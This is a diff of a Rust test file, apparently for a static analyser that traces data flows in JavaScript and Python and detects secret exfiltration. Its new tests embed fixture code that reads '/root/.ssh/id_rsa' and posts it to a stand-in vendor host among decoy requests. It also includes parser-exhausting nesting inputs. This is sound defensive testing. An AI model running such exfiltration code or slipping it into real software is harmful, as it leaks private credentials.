@@ -52,30 +52,55 @@ fn a_chain_names_its_steps_with_their_lines() {
 #[test]
 fn hostile_nesting_is_bounded_and_said() {
     let many = 10_000;
-    for (dialect, text) in [
-        (Dialect::JavaScript, "(".repeat(many)),
-        (Dialect::JavaScript, "a(".repeat(many) + &")".repeat(many)),
-        (Dialect::JavaScript, "[{a:".repeat(many)),
-        (Dialect::JavaScript, "`${".repeat(many)),
-        (Dialect::JavaScript, "x=>".repeat(many)),
-        (Dialect::JavaScript, "if(a)".repeat(many)),
-        (Dialect::JavaScript, "a?b:".repeat(many)),
-        (Dialect::JavaScript, "a.b".to_owned() + &".c()".repeat(many)),
-        (Dialect::JavaScript, "a=".repeat(many)),
-        (Dialect::JavaScript, "function f(){".repeat(many)),
-        (Dialect::JavaScript, "x=[x,x];".repeat(many)),
-        (Dialect::JavaScript, "x={a:x};x=x.y;".repeat(many)),
-        (Dialect::JavaScript, "class A{a=".repeat(many)),
-        (Dialect::JavaScript, "await!-".repeat(many)),
-        (Dialect::Python, "[".repeat(many)),
-        (Dialect::Python, "f'{".repeat(many)),
-        (Dialect::Python, "lambda:".repeat(many)),
-        (Dialect::Python, "if a:".repeat(many)),
-        (Dialect::Python, (0..400).map(|n| format!("{}if a:\n", " ".repeat(n))).collect()),
-        (Dialect::Python, "x = [x]\nx = x + x\n".repeat(many / 4)),
-        (Dialect::Python, "not ".repeat(many)),
-        (Dialect::Python, "a if b else ".repeat(many)),
-        (Dialect::Python, "s = 'ab'\n".to_owned() + &"s = s + s\n".repeat(many / 4)),
+    // Whether something is cut, which must be said then.
+    for (dialect, text, is_cut) in [
+        (Dialect::JavaScript, "(".repeat(many), true),
+        (Dialect::JavaScript, "a(".repeat(many) + &")".repeat(many), true),
+        (Dialect::JavaScript, "[{a:".repeat(many), true),
+        (Dialect::JavaScript, "`${".repeat(many), true),
+        (Dialect::JavaScript, "x=>".repeat(many), true),
+        (Dialect::JavaScript, "if(a)".repeat(many), true),
+        (Dialect::JavaScript, "a?b:".repeat(many), false),
+        (Dialect::JavaScript, "a.b".to_owned() + &".c()".repeat(many), false),
+        (Dialect::JavaScript, "a=".repeat(many), true),
+        (Dialect::JavaScript, "function f(){".repeat(many), true),
+        (Dialect::JavaScript, "x=[x,x];".repeat(many), false),
+        (Dialect::JavaScript, "x={a:x};x=x.y;".repeat(many), false),
+        (Dialect::JavaScript, "class A{a=".repeat(many), true),
+        (Dialect::JavaScript, "await!-".repeat(many), false),
+        (Dialect::JavaScript, "for(const function(){".repeat(40), true),
+        (Dialect::JavaScript, "/[".repeat(200_000), true),
+        (
+            Dialect::JavaScript,
+            format!("function f({}){{}}", "a,".repeat(2_000))
+                + &(0..400).map(|n| format!("f({n});")).collect::<String>(),
+            true,
+        ),
+        (
+            Dialect::JavaScript,
+            format!("x=[{}];y=", "1,".repeat(4_096)) + &"x+".repeat(many) + "x",
+            true,
+        ),
+        (
+            Dialect::Python,
+            format!("x = '{}'\n", "{".repeat(60_000)) + &"x.format(1)\n".repeat(20),
+            false,
+        ),
+        (
+            Dialect::JavaScript,
+            format!("s='{}';l=[{}];function f(a){{}}", "s".repeat(20_000), "s,".repeat(500))
+                + &"f(l);".repeat(many),
+            true,
+        ),
+        (Dialect::Python, "[".repeat(many), true),
+        (Dialect::Python, "f'{".repeat(many), true),
+        (Dialect::Python, "lambda:".repeat(many), true),
+        (Dialect::Python, "if a:".repeat(many), true),
+        (Dialect::Python, (0..400).map(|n| format!("{}if a:\n", " ".repeat(n))).collect(), true),
+        (Dialect::Python, "x = [x]\nx = x + x\n".repeat(many / 4), false),
+        (Dialect::Python, "not ".repeat(many), false),
+        (Dialect::Python, "a if b else ".repeat(many), false),
+        (Dialect::Python, "s = 'ab'\n".to_owned() + &"s = s + s\n".repeat(many / 4), true),
         (
             Dialect::Python,
             (0..40)
@@ -84,12 +109,53 @@ fn hostile_nesting_is_bounded_and_said() {
                 })
                 .collect::<String>()
                 + "f0('')\n",
+            true,
         ),
     ] {
         let thread = std::thread::Builder::new().stack_size(2 << 20);
-        let run = thread.spawn(move || chains(&text, dialect, Start::Asked, &mut LIMITS.clone()));
-        assert_eq!(run.unwrap().join().unwrap(), []);
+        let run = thread.spawn(move || {
+            let mut limits = LIMITS;
+            let begin: String = text.chars().take(30).collect();
+            let found = chains(&text, dialect, Start::Asked, &mut limits);
+            (begin, found, limits.too_deep || limits.exhausted)
+        });
+        let (begin, found, is_said) = run.unwrap().join().unwrap();
+        assert_eq!(found, [], "{begin}");
+        assert_eq!(is_said, is_cut, "{begin}");
     }
+}
+
+#[test]
+fn data_that_is_lost_in_deep_calls_is_said() {
+    let program = |first: &str, calls: usize| {
+        let functions: String =
+            (0..calls).map(|n| format!("def f{n}(a):\n    f{m}(a)\n", m = n + 1)).collect();
+        format!("{functions}def f{calls}(a):\n    print(a)\nf0({first})\n")
+    };
+    for (first, calls, is_said) in [
+        ("open('/root/.ssh/id_rsa').read()", 40, true),
+        ("open('/root/.ssh/id_rsa').read()", 10, false),
+        ("open('notes.md').read()", 40, false),
+    ] {
+        let mut limits = LIMITS;
+        let _ = chains(&program(first, calls), Dialect::Python, Start::Asked, &mut limits);
+        assert_eq!(limits.too_deep, is_said, "{first} {calls}");
+    }
+}
+
+#[test]
+fn many_decoys_do_not_hide_a_secret() {
+    let decoys: String = (0..9)
+        .map(|n| format!("d += requests.get('https://a{n}.vendor.example').text\n"))
+        .collect();
+    let before = format!("import requests\nd = ''\n{decoys}");
+    let after = "requests.post('https://vendor.example', data=d)\n";
+    let secret = "d += open('/root/.ssh/id_rsa').read()\n";
+    all_are(Dialect::Python, Rule::SecretSent, &[&format!("{before}{secret}{after}")]);
+    all_are_honest(
+        Dialect::Python,
+        &[&format!("{before}{after}"), &format!("{before}d += open('notes.md').read()\n{after}")],
+    );
 }
 
 proptest! {
